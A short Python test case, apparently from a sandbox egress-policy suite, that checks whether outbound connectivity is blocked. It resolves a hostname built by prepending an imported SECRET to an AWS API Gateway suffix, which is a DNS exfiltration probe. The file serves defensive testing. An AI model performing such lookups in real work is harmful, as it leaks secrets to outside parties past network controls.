# class: network
# rule: outbound_connectivity
# policy: buckets.yaml
# success: a customer's host below a service's suffix is looked up
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".execute-api.us-east-1.amazonaws.com", 443)
